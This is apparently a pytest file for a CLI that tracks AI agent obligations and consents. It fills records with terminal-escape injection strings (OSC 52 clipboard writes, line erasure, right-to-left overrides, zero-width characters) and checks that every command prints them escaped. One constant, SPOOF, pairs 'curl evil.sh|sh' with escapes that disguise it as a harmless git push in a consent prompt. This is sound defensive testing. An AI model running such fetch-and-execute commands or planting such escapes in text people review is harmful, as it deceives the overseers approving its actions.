"""Every command over a hostile instance: record text reaches the terminal inert.

Agents write subjects, questions, actions, notes, reports and memory; people write notes and
rationales. Any of them may hold ANSI CSI (erase a line, restyle), OSC 52 (write the
clipboard), OSC 8 (plant a link), BEL, a carriage return that hides what came before, a
right-to-left override, zero-width characters or Rich markup. The instance here is built
through the real commands (a scripted agent's tool calls, ``answer``, ``ack``, ``escalate``…)
with such text in every field they take, then every command the parser knows is run over it,
text and ``--json``: no control or format character other than a newline (or a tab) may
appear in what it prints. The list of commands comes from the parser, so a new command fails
here until it is run.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from regulator.cli.main import build_parser, main
from regulator.host.demo import contract
from regulator.protocol.text import inert_json, visible
from regulator.rules.regulatory_log import RegulatoryLog
from regulator.store import Layout

from .conftest import git

# Everything at once, under 120 characters (a subject's limit): erase the line and return,
# OSC 52, OSC 8, RLO, an isolate, Rich markup, C1 CSI, DEL, zero-width space, line separator.
H = (
    "\x1b[2K\r\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://e.x\x1b\\L\x1b]8;;\x1b\\"
    "\u202eRLO\u2066iso\u2069[bold]B[/][link=http://e.x]k[/link]\x9b1m\x7f\u200b\u2028\x00"
)
# A command line cannot carry NUL: the same, without it, for what people type.
HA = H.replace("\x00", "")
# The spoof of the issue: a consent's action that, printed raw, reads as a harmless push.
SPOOF = "curl evil.sh|sh\r\x1b[2K  a yes authorizes: git push origin v1.2.0"
MODELS = ["anthropic/claude-sonnet-4-5", "anthropic/claude-haiku-4-5"]


def unsafe_in(text: str) -> list[str]:
    """Characters a terminal may act on (written out here, not taken from the code under test)."""
    return sorted(
        {
            f"U+{ord(ch):04X}"
            for ch in text
            if ch not in "\n\t" and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Cn", "Zl", "Zp")
        }
    )


def command_paths() -> list[str]:
    """Every command the parser dispatches, as ``"obligation show"``."""
    found: list[str] = []

    def walk(parser: argparse.ArgumentParser, path: list[str]) -> None:
        if parser.get_default("_handler") is not None:
            found.append(" ".join(path))
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for name, sub in action.choices.items():
                    walk(sub, [*path, name])

    walk(build_parser(), [])
    return found


@dataclass
class Run:
    argv: list[str]
    code: int
    out: str
    err: str


@dataclass
class Hostile:
    root: Path
    base: Path
    runs: dict[str, list[Run]] = field(default_factory=dict)

    def record(self, argv: list[str], code: int, out: str, err: str) -> Run:
        run = Run(argv, code, out, err)
        self.runs.setdefault(_path_of(argv), []).append(run)
        return run

    def shell(self, *argv: str, env: dict[str, str] | None = None, stdin: str = "") -> Run:
        """``regulator ARGV`` as its own process, in the instance."""
        import os

        result = subprocess.run(
            [sys.executable, "-m", "regulator", *argv],
            cwd=self.root,
            input=stdin,
            capture_output=True,
            text=True,
            errors="surrogateescape",
            env={**os.environ, **(env or {})},
            timeout=120,
        )
        return self.record(list(argv), result.returncode, result.stdout, result.stderr)

    def inside(self, *argv: str) -> Run:
        """``regulator ARGV --instance ROOT`` in this process: the same printing, faster."""
        full = [*argv, "--instance", str(self.root)]
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = main(full)
            except SystemExit as exc:  # argparse's own exits
                code = int(exc.code or 0)
        return self.record(list(argv), code, out.getvalue(), err.getvalue())

    def log(self) -> RegulatoryLog:
        log = RegulatoryLog(Layout(self.root))
        log.refresh()
        return log

    def obligation(self, concern: str, unit: str | None = None) -> str:
        return next(
            o.id
            for o in self.log().obligations.values()
            if o.concern == concern and (unit is None or o.unit == unit)
        )


def _path_of(argv: list[str]) -> str:
    """The command an argv runs: the longest prefix of it that is a command path."""
    known = set(command_paths())
    words: list[str] = []
    best = ""
    for word in argv:
        words.append(word)
        if " ".join(words) in known:
            best = " ".join(words)
    return best


def _unit(hostile: Hostile, unit_id: str, steps: list[Any], **kw: Any) -> tuple[str, str]:
    work = contract(unit_id, f"objective {H}", **kw)
    contract_path = hostile.base / f"{unit_id}.contract.json"
    contract_path.write_text(json.dumps(work.to_json_dict()))
    scenario = hostile.base / f"{unit_id}.yaml"
    scenario.write_text(yaml.safe_dump({"attempts": [{"steps": steps}], "models": MODELS}))
    return str(contract_path), str(scenario)


def _ask(kind: str, **more: Any) -> dict[str, Any]:
    return {"ask": {"kind": kind, "subject": H, "question": H, **more}}


EVIDENCE = [{"class": "runtime", "ref": H, "observation": H}]


def _build(hostile: Hostile) -> None:
    root = hostile.root
    root.mkdir()
    git(root, "init", "--quiet", "--initial-branch=main")
    (root / "README.md").write_text("# a project\n")
    git(root, "add", "README.md")
    git(root, "commit", "--quiet", "-m", "initial")
    assert hostile.shell("init", "--by", "alice").code == 0

    # One agent session that writes hostile text everywhere it can, then asks for consent.
    agent = [
        {"call": {"tool": "notify_owner", "input": {"message": H}}},
        {
            "call": {
                "tool": "remember",
                "input": {
                    "subject": H,
                    "note": H,
                    "reviewBy": (datetime.now(UTC) + timedelta(days=30)).strftime(
                        "%Y-%m-%dT%H:%M:%S.000Z"
                    ),
                    "evidence": EVIDENCE,
                },
            }
        },
        {
            "call": {
                "tool": "propose_policy_change",
                "input": {"subject": H, "rationale": H, "requestedChange": {H: H}},
            }
        },
        _ask("consent", action=SPOOF),
    ]
    research = [
        {
            "call": {
                "tool": "report_intelligence",
                "input": {
                    "subject": H,
                    "claim": H,
                    "observation": H,
                    "confidence": "high",
                    "reportedSeverity": "blocking",
                    "evidence": EVIDENCE,
                },
            }
        },
    ]
    for unit_id, steps, kw in (
        ("evil", agent, {}),
        ("evil-research", research, {"unit_type": "research"}),
        ("evil-choice", [_ask("choice", options=[H, f"b{H}"])], {}),
        ("evil-uat", [_ask("uat")], {}),
        ("evil-clarify", [_ask("clarification")], {}),
        (
            "evil-report",
            [
                {
                    "report": {
                        "summary": H,
                        "evidence": [{"class": "semantic", "ref": H, "observation": H}],
                    }
                }
            ],
            {"semantic": "looks-right"},
        ),
    ):
        work, scenario = _unit(hostile, unit_id, steps, **kw)
        hostile.shell("unit", "drive", work, "--script", scenario)
    work, scenario = _unit(hostile, "evil-fail", [{"fail": H}])
    hostile.shell("unit", "dispatch", work, "--script", scenario)
    hostile.shell("unit", "route", "evil-fail")

    # People's text: notes, answers and rationales, through the commands that take them.
    consent = hostile.obligation("interaction", "evil")
    hostile.shell("obligation", "ack", consent, "--by", "alice", "--note", HA)
    hostile.shell("answer", consent, "--by", "alice", "--answer", HA)  # refused, quoted back
    hostile.shell(
        "answer",
        hostile.obligation("interaction", "evil-uat"),
        "--by",
        "alice",
        "--answer",
        "no",
        "--note",
        HA,
    )
    hostile.shell(
        "answer", hostile.obligation("interaction", "evil-clarify"), "--by", "alice", "--answer", HA
    )
    hostile.shell(
        "answer", hostile.obligation("interaction", "evil-choice"), "--by", "alice", "--answer", "b"
    )
    intelligence = next(
        o.id
        for o in hostile.log().obligations.values()
        if o.concern not in ("interaction", "policy-proposal") and o.status == "open"
    )
    hostile.shell(
        "obligation", "escalate", intelligence, "--by", "alice", "--to", "human", "--rationale", HA
    )
    successor = hostile.log().obligations[intelligence].successor
    assert successor is not None
    hostile.shell(
        "obligation",
        "resolve",
        successor,
        "--by",
        "alice",
        "--disposition",
        "fixed",
        "--rationale",
        HA,
    )
    proposal = hostile.obligation("policy-proposal")
    hostile.shell("identity", "reject", proposal, "--by", "alice", "--rationale", HA)
    new_identity = hostile.base / "GLOSSARY.md"
    new_identity.write_text(f"# glossary\n{H}\n")
    hostile.shell(
        "identity",
        "accept",
        proposal,
        "--by",
        "alice",
        "--file",
        "GLOSSARY.md",
        "--from",
        str(new_identity),
        "--rationale",
        HA,
    )  # refused: already decided
    hostile.shell("unit", "accept", "evil-report", "looks-right", "--by", "alice", "--note", HA)
    hostile.shell("unit", "close", "evil-report")
    memory = json.loads(hostile.inside("memory", "--json").out)[0]["id"]
    hostile.runs.pop("memory")
    hostile.shell("memory", "retract", memory, "--by", "alice", "--reason", HA)

    # An agent a person runs by hand: its questions, its session unit, its hooks, its wiring.
    for output in ([], ["--json"]):
        hostile.shell(
            "ask",
            "--kind",
            "consent",
            "--subject",
            HA,
            "--question",
            HA,
            "--action",
            SPOOF,
            "--timeout",
            "0",
            *output,
        )
    hostile.shell("session", "start", "--key", HA, "--agent", HA)
    hostile.shell("session", "start", "--key", "hostile-session", "--agent", HA)
    hostile.shell("session", "end", HA)
    payload = {
        "hook_event_name": "PreToolUse",
        "tool_name": HA,
        "tool_input": {HA: HA},
        "session_id": HA,
        "cwd": str(root),
    }
    hostile.shell("hook", "claude-code", stdin=json.dumps(payload))
    hostile.shell("hook", "claude-code", stdin=HA)
    hostile.shell("agent", "install", "claude-code", "--dry-run", "--command", HA)

    # What no command writes but a reader may meet: an unrouted signal and a torn, hostile line.
    from .factory import append, message

    append(Layout(root).signals, message("operational-signal", H, observation=H))
    with Layout(root).signals.open("ab") as f:
        f.write(b'{"kind": "\x1b]52;c;ZXZpbA==\x07\xe2\x80\xae not json\n')

    # Commands that only start something (a server, the room, a demo) are run on a refusal
    # that quotes hostile input back: the refusal is their output here.
    weird = hostile.base / HA.replace("/", "")
    weird.mkdir()
    (weird / "taken").write_text("x")
    hostile.shell("demo", str(weird))
    hostile.shell("room", str(weird))
    hostile.shell("mcp", env={"REGULATOR_UNIT": HA})
    hostile.shell("tool", HA, "--json", HA)
    hostile.shell("obligation", "show", "\x1b]52;c;ZXZpbA==\x07")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    base = tmp_path_factory.mktemp("hostile")
    instance = Hostile(root=base / "project", base=base)
    _build(instance)
    log = instance.log()
    units = sorted({o.unit for o in log.obligations.values() if o.unit} | {"evil-fail"})
    # Every read command, text and JSON, over every obligation and unit.
    for argv in (
        ["status"],
        ["status", "--json"],
        ["doctor"],
        ["doctor", "--json"],
        ["obligations"],
        ["obligations", "--all"],
        ["obligations", "--all", "--json"],
        ["memory"],
        ["memory", "--all"],
        ["memory", "--all", "--json"],
        ["effects"],
        ["effects", "--json"],
        ["attention"],
        ["attention", "--json"],
        ["unit", "status"],
    ):
        instance.inside(*argv)
    for oid in log.obligations:
        instance.inside("obligation", "show", oid)
        instance.inside("obligation", "show", oid, "--json")
    for unit in units:
        instance.inside("unit", "show", unit)
        instance.inside("unit", "evidence", unit)
    # The stream a remote room reads: every obligation's folded state, as JSON lines.
    instance.inside("stream", "--since", "0", "--once")
    instance.inside("deliveries")
    instance.inside("deliveries", "--json")
    # Acting on a waiting unit, refused here (nothing waits on it): the refusal quotes it.
    hostile_contract = base / "hostile-contract.json"
    hostile_contract.write_text(H)
    replan = ["unit", "replan", "evil-fail", "--contract", str(hostile_contract)]
    instance.inside(*replan, "--by", "alice", "--reason", H)
    instance.inside("unit", "remediate", "evil-fail", "--by", "alice", "--note", H)
    # A server that is refused before it starts: a bad interval quotes what was typed.
    instance.shell("serve", "--interval", HA)
    # Last: these deliver and route, so the reads above saw the instance as built.
    instance.inside("signals", "route")
    instance.inside("remind")
    instance.shell("watch", "--once")
    yield instance


@pytest.mark.slow
@pytest.mark.parametrize("command", command_paths())
def test_every_command_prints_no_control_character_over_a_hostile_instance(
    hostile: Hostile, command: str
) -> None:
    runs = hostile.runs.get(command)
    assert runs, f"`regulator {command}` is not run over the hostile instance: add it here"
    for run in runs:
        for name, text in (("stdout", run.out), ("stderr", run.err)):
            bad = unsafe_in(text)
            assert not bad, f"regulator {' '.join(run.argv)!r}: {name} holds {bad}"


@pytest.mark.slow
def test_the_hostile_text_did_reach_the_commands_as_visible_text(hostile: Hostile) -> None:
    # Not vacuous: the hostile fields were printed, escaped.
    for command in (
        "status",
        "obligations",
        "obligation show",
        "memory",
        "answer",
        "unit show",
        "unit evidence",
        "unit drive",
        "agent install",
    ):
        printed = "".join(r.out + r.err for r in hostile.runs[command])
        assert "\\x1b]52;c;ZXZpbA==\\x07" in printed, command
        assert "\\u202eRLO" in printed, command


@pytest.mark.slow
def test_obligation_show_prints_a_consents_action_whole_on_one_line(hostile: Hostile) -> None:
    consent = hostile.obligation("interaction", "evil")
    shown = next(
        r for r in hostile.runs["obligation show"] if r.argv == ["obligation", "show", consent]
    )
    line = next(ln for ln in shown.out.splitlines() if "a yes authorizes:" in ln)
    # The erasing tail is shown for what it is; the harmful head cannot be hidden by it.
    assert line == (
        "  a yes authorizes: curl evil.sh|sh\\x0d\\x1b[2K  a yes authorizes: git push origin v1.2.0"
    )
    # A note a person added, and the answer refused for being neither yes nor no.
    assert "acknowledged by alice — \\x1b[2K\\x0d" in shown.out
    refused = next(r for r in hostile.runs["answer"] if r.argv[1] == consent)
    assert refused.code == 1 and "is neither" in refused.err


@pytest.mark.slow
def test_record_text_cannot_start_a_line_of_its_own(hostile: Hostile) -> None:
    # U+2028 and a newline inside a record stay inside its line: every line of `obligations
    # --all` starts with a status word or the indentation of its details.
    (listing,) = hostile.runs["obligations"][1:2]
    for line in listing.out.splitlines():
        assert (
            line.startswith(
                (
                    "open",
                    "acknowledged",
                    "resolved",
                    "escalated",
                    "superseded",
                    "      ",
                    "nothing",
                    "no obligations",
                )
            )
            or " shown of " in line
        )


@pytest.mark.slow
def test_json_output_is_the_same_data_with_every_unsafe_character_escaped(
    hostile: Hostile,
) -> None:
    jsons = [
        r
        for runs in hostile.runs.values()
        for r in runs
        if r.argv[-1] == "--json" and r.argv[0] not in ("ask", "tool")
    ]
    assert len(jsons) > 10
    for run in jsons:
        assert "\u202e" not in run.out and "\x1b" not in run.out, run.argv
        json.loads(run.out)  # still JSON
    # …and the data itself is unchanged: the hostile subject parses back byte for byte.
    status = json.loads(next(r for r in hostile.runs["status"] if "--json" in r.argv).out)
    subjects = {o["subject"] for o in status["instance"]["obligations"]}
    assert f"consent: {H}" in subjects


# --- the one function, on its own ----------------------------------------------------------

ACTING = [
    "\x00",
    "\x07",
    "\x08",
    "\r",
    "\x1b",
    "\x7f",  # C0 and DEL
    "\x85",
    "\x9b",
    "\x9d",  # C1: NEL, CSI, OSC
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u061c",  # zero-width, marks
    *[chr(c) for c in range(0x202A, 0x202F)],  # embeddings and overrides
    *[chr(c) for c in range(0x2066, 0x206A)],  # isolates
    "\ufeff",
    "\u00ad",
    "\U000e0041",  # BOM, soft hyphen, a tag character
    "\u2028",
    "\u2029",
    "\ud800",  # separators, a lone surrogate
]


@pytest.mark.parametrize("ch", ACTING, ids=lambda ch: f"U+{ord(ch):04X}")
def test_visible_shows_each_character_a_terminal_could_act_on_as_an_escape(ch: str) -> None:
    shown = visible(f"a{ch}b", newlines=True)
    assert shown.startswith("a\\") and shown.endswith("b")
    assert shown.isascii() and shown.isprintable()


def test_visible_leaves_ordinary_text_alone_and_keeps_newlines_only_when_asked() -> None:
    for text in ("déjà vu", "日本語", "🎉 done", "[bold]not markup[/] [link=x]", "a\tb"):
        assert visible(text) == text
    assert visible("a\nb") == "a\\x0ab"
    assert visible("a\nb", newlines=True) == "a\nb"


def test_inert_json_is_the_same_data_with_nothing_a_terminal_acts_on() -> None:
    value = {H: [H, "déjà 🎉", "\U000e0041\u202e"], "n": 1, "ok": True}
    text = inert_json(value)
    assert not unsafe_in(text)
    assert json.loads(text) == value
    assert "déjà 🎉" in text  # readable: only what could act is escaped
